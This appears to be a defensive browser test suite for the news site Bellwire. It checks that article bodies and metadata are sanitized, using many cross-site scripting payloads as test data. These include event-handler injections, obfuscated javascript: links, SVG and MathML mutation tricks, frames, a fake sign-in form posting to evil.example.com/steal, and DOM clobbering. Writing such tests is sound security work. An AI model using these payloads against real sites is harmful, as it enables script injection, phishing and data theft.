// Hostile news bodies: nothing runs, no other host is contacted, no data leaks.
import assert from "node:assert/strict";
import fc from "fast-check";
import { runs } from "../../support/budget.ts";
import { seed } from "../../support/records/records.ts";
import { assertClean, type Opened, pageTests, type Site } from "../support/browser.ts";

const test = pageTests({ demo: [] });
const attack = "window.hit=1";
const elsewhere = "https://evil.example.com";

/** Each does harm in a page that inserts it unsanitized. */
const attacks: Readonly<Record<string, string>> = {
  script: `<script>${attack}</script><script src="${elsewhere}/x.js"></script><SCRIPT>${attack}</SCRIPT><scr<script>ipt>${attack}</script>`,
  handlers: `<img src=x onerror="${attack}"><p onclick="${attack}" onmouseover="${attack}">p</p><body onload="${attack}"><details open ontoggle="${attack}">d</details><input autofocus onfocus="${attack}"><marquee onstart="${attack}">m</marquee><video src=x onerror="${attack}"></video><b onpointerrawupdate=${attack}>b</b>`,
  links: [
    `javascript:${attack}`,
    `JaVaScRiPt:${attack}`,
    `java&#10;script:${attack}`,
    `java&Tab;script:${attack}`,
    `&#1;javascript:${attack}`,
    ` javascript:${attack}`,
    `javascript&colon;${attack}`,
    `vbscript:${attack}`,
    `data:text/html,<script>${attack}</script>`,
    `blob:${elsewhere}/1`,
    `view-source:javascript:${attack}`,
    "//evil.example.com/relative",
    "/operator",
    `https:javascript:${attack}`,
  ]
    .map((href, at) => `<a href="${href}" target="_self" ping="${elsewhere}/ping">link ${at}</a>`)
    .join(" "),
  css: `<style>*{display:none!important}@import "${elsewhere}/x.css";</style><link rel=stylesheet href="${elsewhere}/x.css"><p style="position:fixed;inset:0;background:url(${elsewhere}/x.png)">styled</p><div class="bar panel hidden" id="main">classes</div><table background="${elsewhere}/t.png"><td background="${elsewhere}/d.png">t</td></table>`,
  svg: `<svg onload="${attack}"><script>${attack}</script><a xlink:href="javascript:${attack}"><text>x</text></a><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject><animate href=#x attributeName=href values="javascript:${attack}"/><image href="${elsewhere}/i.svg"/><style><img src=x onerror=${attack}></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;"></table></mtext><annotation-xml encoding="text/html"><img src=x onerror=${attack}></annotation-xml></math><img src="data:image/svg+xml,<svg onload='${attack}'/>">`,
  frames: `<iframe src="${elsewhere}"></iframe><iframe srcdoc="<script>parent.hit=1</script>"></iframe><object data="${elsewhere}/o.swf"></object><embed src="${elsewhere}/e.swf"><frameset><frame src="javascript:${attack}"></frameset><portal src="${elsewhere}"></portal>`,
  forms: `<form action="${elsewhere}/steal" id=f><input name=key value=x><button formaction="javascript:${attack}">Sign in again</button></form><button form=f>go</button><select><option>o</option></select><textarea><img src=x onerror=${attack}></textarea><dialog open>Your key?</dialog>`,
  document: `<base href="${elsewhere}/"><meta http-equiv=refresh content="0;url=${elsewhere}"><meta http-equiv="Content-Security-Policy" content="script-src *"><title>Other title</title><template><img src=x onerror=${attack}></template><noscript><p title="</noscript><img src=x onerror=${attack}>"></noscript><xmp><img src=x onerror=${attack}></xmp><!-- --!><img src=x onerror=${attack}> -->`,
  images: `<img src="${elsewhere}/pixel.gif" srcset="${elsewhere}/2x.png 2x" alt="chart"><picture><source srcset="${elsewhere}/p.webp"><img src="${elsewhere}/p.png"></picture><img src="//evil.example.com/q.png"><audio src="${elsewhere}/a.mp3"></audio><video poster="${elsewhere}/v.png"></video>`,
  clobbering: `<a id=page name=hit href="x">a</a><img name=querySelector><form id=document name=body></form><p id="__proto__">p</p><a id=localStorage href=javascript:1>c</a>`,
};

type Seen = {
  readonly names: string[];
  readonly attributes: string[];
  readonly hrefs: string[];
  readonly sources: string[];
};

/** The rendered elements of the body. */
const drawnIn = (opened: Opened): Promise<Seen> =>
  opened.page.locator(".article-body").evaluate((body) => {
    const all = [...body.querySelectorAll("*")];
    return {
      names: all.map(({ localName }) => localName),
      attributes: all.flatMap((element) => element.getAttributeNames().map((name) => `${element.localName} ${name}`)),
      hrefs: all.flatMap((element) => element.getAttribute("href") ?? []),
      sources: all.flatMap((element) => element.getAttribute("src") ?? []),
    };
  });

const allowedNames = new Set(
  "p br hr strong b em i u s sub sup small ul ol li blockquote pre code table thead tbody tfoot tr th td figure figcaption div h3 h4 a span mark img".split(
    " ",
  ),
);
const allowedAttributes = new Set(
  ["a href", "a target", "a rel", "span aria-hidden", "span class", "img class", "img src", "img alt"].concat(
    ["th", "td"].flatMap((cell) => [`${cell} colspan`, `${cell} rowspan`]),
  ),
);

async function assertHarmless(opened: Opened): Promise<Seen> {
  const seen = await drawnIn(opened);
  assert.deepEqual(
    seen.names.filter((name) => !allowedNames.has(name)),
    [],
  );
  assert.deepEqual(
    seen.attributes.filter((name) => !allowedAttributes.has(name)),
    [],
  );
  for (const href of seen.hrefs) assert.match(href, /^https?:\/\//);
  for (const source of seen.sources) assert.match(source, /^data:image\/(png|jpeg|gif|webp);base64,/);
  assert.equal(await opened.page.evaluate(() => (window as unknown as { hit?: number }).hit), undefined);
  assert.match(await opened.page.title(), /Bellwire$/);
  assertClean(opened);
  return seen;
}

async function openItem(site: Site, id: number, body: string, more: object = {}): Promise<Opened> {
  const { service } = site;
  const opened = await site.blank();
  opened.page.on("dialog", (dialog) => opened.complaints.push(`dialog: ${dialog.message()}`));
  opened.page.on("popup", (popup) => opened.complaints.push(`popup: ${popup.url()}`));
  opened.page.on("framenavigated", (frame) => {
    if (!frame.url().startsWith(service.origin)) opened.complaints.push(`navigation: ${frame.url()}`);
  });
  await showItem(opened, site, id, body, more);
  return opened;
}

/** Reloads the page with this item. */
async function showItem({ page }: Opened, { service }: Site, id: number, body: string, more: object): Promise<void> {
  await service.has("news", [
    { id, title: `Item ${id}`, created: "2026-06-17T09:00:00-04:00", body: `${body}<p>The end of ${id}</p>`, ...more },
  ]);
  await page.goto(`${service.origin}/news/${id}`);
  // A body that is sanitized to nothing is rendered but invisible.
  await page.locator(".article-body").waitFor({ state: "attached" });
}

for (const [at, [name, body]] of Object.entries(attacks).entries()) {
  test(`${name}: nothing runs, nothing is loaded, and only plain markup remains`, async (site) => {
    const opened = await openItem(site, 100 + at, body);
    await assertHarmless(opened);
    // Trigger events on all elements: no handler may remain.
    for (const event of ["click", "mouseover", "focus", "toggle"])
      await opened.page.locator(".article-body").evaluate((drawn, type) => {
        for (const each of drawn.querySelectorAll(":not(a)")) each.dispatchEvent(new Event(type, { bubbles: true }));
      }, event);
    await assertHarmless(opened);
  });
}

test("http and https links open a new window without opener or referrer; others become text", async (site) => {
  const opened = await openItem(site, 200, `${attacks.links}<a href="https://good.example.com/a?b=c#d">good</a>`);
  const { hrefs } = await assertHarmless(opened);
  assert.deepEqual(
    hrefs,
    ["https://javascript:window.hit=1", "https://good.example.com/a?b=c#d"].filter((href) => URL.canParse(href)),
  );
  const good = opened.page.getByRole("link", { name: "good" });
  assert.deepEqual(await good.evaluate((link) => [link.getAttribute("target"), link.getAttribute("rel")]), [
    "_blank",
    "noopener noreferrer",
  ]);
  assert.match(await opened.page.locator(".article-body").innerText(), /link 0 link 1 link 2/);
});

test("images on other hosts become links; inline images are shown", async (site) => {
  const dot = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";
  const opened = await openItem(site, 201, `${attacks.images}<img src="${dot}" alt="dot">`);
  const { hrefs, sources } = await assertHarmless(opened);
  assert.deepEqual(hrefs, [`${elsewhere}/pixel.gif`, `${elsewhere}/p.png`]);
  assert.deepEqual(sources, [dot]);
  await opened.page.getByRole("link", { name: "Image: chart (evil.example.com)" }).waitFor();
});

test("harmless markup is preserved: paragraphs, lists, tables, emphasis, headings", async (site) => {
  const opened = await openItem(
    site,
    202,
    "<h1>Head</h1><p>One <strong>two</strong><br>three</p><ul><li>a</li><li>b</li></ul><blockquote>said</blockquote><table><tr><th colspan=2>H</th></tr><tr><td>1</td><td>2</td></tr></table><custom-tag>plain text</custom-tag><font color=red>plain</font>",
  );
  const { names } = await assertHarmless(opened);
  assert.deepEqual(names, [
    "h3",
    "p",
    "strong",
    "br",
    "ul",
    "li",
    "li",
    "blockquote",
    "table",
    "tbody",
    "tr",
    "th",
    "tr",
    "td",
    "td",
    "p",
  ]);
  assert.match(await opened.page.locator(".article-body").innerText(), /plain text\s*plain/);
});

test("titles, tags, channels, authors, tickers, and URLs are plain text in every view", async (site) => {
  const { service } = site;
  const markup = `<img src=x onerror=${attack}>`;
  const opened = await openItem(site, 203, "<p>merger</p>", {
    title: `${markup} merger`,
    author: markup,
    teaser: markup,
    tags: [{ name: `${markup} merger` }],
    channels: [{ name: markup }],
    stocks: [{ name: `"><script>${attack}</script>`, exchange: markup }],
    url: `javascript:${attack}`,
    image: [{ size: "large", url: `javascript:${attack}` }],
  });
  await assertHarmless(opened);
  assert.equal(await opened.page.locator('a[href^="javascript"]').count(), 0);
  for (const path of ["/news?topics=merger&item=203", "/day/2026-06-17"]) {
    await opened.page.goto(`${service.origin}${path}`);
    await opened.page.getByText(markup).first().waitFor();
    assert.equal(await opened.page.evaluate(() => (window as unknown as { hit?: number }).hit), undefined);
    assert.equal(await opened.page.locator("main img, main script").count(), 0);
  }
  assertClean(opened);
});

test("random combinations of attacks and deep nesting are harmless", async (site, t) => {
  t.diagnostic(`BELLWIRE_TEST_SEED=${seed} repeats it`);
  const pieces = Object.values(attacks).flatMap((body) => body.split(/(?=<)/));
  const cut = fc
    .tuple(fc.constantFrom(...pieces), fc.nat(30), fc.nat(60))
    .map(([piece, from, length]) => piece.slice(from, from + length));
  const whole = fc.constantFrom(
    ...pieces,
    "</p>",
    "</div>",
    "</table>",
    "<table>",
    "<p>",
    "-->",
    "<!--",
    "]]>",
    "<![CDATA[",
    "'",
    '"',
    "`",
    "\0",
    "&#x3c;img src=x onerror=1&#x3e;",
  );
  const bodies = fc.sample(fc.array(fc.oneof(whole, cut), { minLength: 20, maxLength: 200 }), {
    seed,
    numRuns: runs(5, 50),
  });
  const opened = await openItem(site, 400, `${"<div>".repeat(20_000)}deep`);
  await assertHarmless(opened);
  for (const [at, body] of bodies.entries()) {
    await showItem(opened, site, 300 + at, body.join("").replaceAll("\0", ""), {});
    await assertHarmless(opened);
  }
});
